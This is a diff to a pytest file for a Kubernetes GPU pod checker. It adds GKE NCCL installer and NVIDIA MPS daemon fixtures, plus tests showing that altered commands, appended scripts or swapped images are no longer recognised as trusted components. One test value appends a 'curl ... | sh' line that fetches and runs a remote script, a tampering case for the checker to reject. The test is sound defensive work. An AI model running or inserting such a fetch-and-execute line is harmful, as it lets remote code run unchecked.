@@ -27,6 +27,8 @@ EXPECTED = {
     "gpu-operator-device-plugin.yaml": "NVIDIA device plugin",
     "gpu-operator-gpu-feature-discovery.yaml": "NVIDIA GPU Feature Discovery",
     "gpu-operator-mps-control-daemon.yaml": "NVIDIA MPS control daemon",
+    "gpu-operator-mps-control-daemon-v24.3.0.yaml": "NVIDIA MPS control daemon",
+    "nvidia-device-plugin-mps-control-daemon-helm.yaml": "NVIDIA MPS control daemon",
     "gpu-operator-driver.yaml": "NVIDIA GPU Operator driver",
     "gpu-operator-driver-full-spec.yaml": "NVIDIA GPU Operator driver",
     "gpu-operator-driver-openshift-drivertoolkit.yaml": "NVIDIA GPU Operator driver",
@@ -51,7 +53,14 @@ EXPECTED = {
     "gke-nvidia-driver-installer-ubuntu.yaml": "GKE NVIDIA driver installer",
     "gke-nri-device-injector.yaml": "GKE NRI device injector",
     "gke-nccl-rdma-installer.yaml": "GKE NCCL RDMA installer",
+    "gke-nccl-rdma-installer-autopilot.yaml": "GKE NCCL RDMA installer",
+    "gke-nccl-rdma-installer-a4x.yaml": "GKE NCCL RDMA installer",
+    "gke-nccl-rdma-installer-log-martians.yaml": "GKE NCCL RDMA installer",
+    "gke-nccl-rdma-installer-a4x-container-toolkit.yaml": "GKE NCCL RDMA installer",
+    "gke-nccl-tcpx-installer.yaml": "GKE NCCL TCPX installer",
+    "gke-nccl-tcpx-installer-autopilot.yaml": "GKE NCCL TCPX installer",
     "gke-nccl-tcpxo-installer.yaml": "GKE NCCL TCPXO installer",
+    "gke-nccl-tcpxo-installer-iptables.yaml": "GKE NCCL TCPXO installer",
     "koordlet.yaml": "Koordinator koordlet",
     "dra-example-driver-kubeletplugin.yaml": "Kubernetes DRA example driver, kubelet plugin",
     "koord-device-daemon.yaml": "Koordinator device daemon",
@@ -164,7 +173,16 @@ def test_operator_rendered_driver_containers_with_a_users_command_are_judged(nam
 
 
 @pytest.mark.parametrize(
-    "name", ["gke-nccl-rdma-installer.yaml", "gke-nccl-tcpxo-installer.yaml", "amd-gpu-device-config-manager.yaml"]
+    "name",
+    [
+        "gke-nccl-rdma-installer.yaml",
+        "gke-nccl-tcpxo-installer.yaml",
+        "amd-gpu-device-config-manager.yaml",
+        "gke-nccl-rdma-installer-log-martians.yaml",  # the alpine init container
+        "gke-nccl-rdma-installer-a4x-container-toolkit.yaml",
+        "gke-nccl-tcpx-installer.yaml",
+        "gke-nccl-tcpxo-installer-iptables.yaml",  # the ubuntu init container
+    ],
 )
 def test_an_nccl_installers_helper_with_a_users_script_is_judged(name):
     obj = copy.deepcopy(load(name))
@@ -173,6 +191,71 @@ def test_an_nccl_installers_helper_with_a_users_script_is_judged(name):
     report = check(obj)
     assert report.allowed == []
     assert any(f.severity == "error" for f in report.findings)
+
+
+# Each container of the published GKE installers and MPS control daemons, once with a user's command line.
+CONTAINERS_OF_NEW_FIXTURES = [
+    (name, kind, index)
+    for name in (
+        "gke-nccl-rdma-installer-a4x-container-toolkit.yaml",
+        "gke-nccl-rdma-installer-autopilot.yaml",
+        "gke-nccl-rdma-installer-a4x.yaml",
+        "gke-nccl-tcpx-installer.yaml",
+        "gpu-operator-mps-control-daemon-v24.3.0.yaml",
+        "nvidia-device-plugin-mps-control-daemon-helm.yaml",
+    )
+    for kind in ("initContainers", "containers")
+    for index in range(len(pod_spec(load(name)).get(kind, [])))
+]
+
+
+@pytest.mark.parametrize("name, kind, index", CONTAINERS_OF_NEW_FIXTURES)
+def test_any_container_of_an_installer_or_mps_daemon_with_a_users_command_is_not_the_component(name, kind, index):
+    obj = copy.deepcopy(load(name))
+    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)).name == EXPECTED[name]
+    container = pod_spec(obj)[kind][index]
+    container["command"], container["args"] = ["bash", "-c"], ["python train.py"]
+    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None
+    assert check(obj).allowed == []
+
+
+@pytest.mark.parametrize(
+    "name, script",
+    [
+        # The container toolkit installer's script with one more line.
+        ("gke-nccl-rdma-installer-a4x-container-toolkit.yaml", "curl -s https://example.com/x.sh | sh\n"),
+        # The plugin's install script made to run a user's program after it.
+        ("gke-nccl-rdma-installer-autopilot.yaml", "python train.py\n"),
+        ("gke-nccl-tcpx-installer.yaml", "python train.py\n"),
+    ],
+)
+def test_a_published_script_with_more_appended_is_not_the_component(name, script):
+    obj = copy.deepcopy(load(name))
+    container = next(c for c in pod_spec(obj)["initContainers"] if "installer" in c["name"])
+    argv = [*container.get("command", []), *container.get("args", [])]
+    container.pop("args", None)
+    container["command"] = [*argv[:-1], argv[-1] + script]
+    assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None
+    assert check(obj).allowed == []
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "registry.example.com/team/nccl-plugin-gib-arm64:v1",  # the component's image name elsewhere
+        "us-docker.pkg.dev/acme/gpudirect-tcpx/nccl-plugin-gpudirecttcpx-dev:v3",  # another project's path
+        "ubuntu:22.04",  # a helper image in the component's own place
+        "alpine:latest",
+    ],
+)
+def test_another_image_in_the_installers_place_is_judged(image):
+    for name in ("gke-nccl-rdma-installer-a4x.yaml", "gke-nccl-tcpx-installer.yaml"):
+        obj = copy.deepcopy(load(name))
+        pod_spec(obj)["initContainers"][-1]["image"] = image
+        assert BUILTIN_CATALOGUE.recognise(pod_spec(obj)) is None, (name, image)
+        report = check(obj)
+        assert report.allowed == []
+        assert any(f.severity == "error" for f in report.findings)
 
 
 AMD_OPERANDS = (
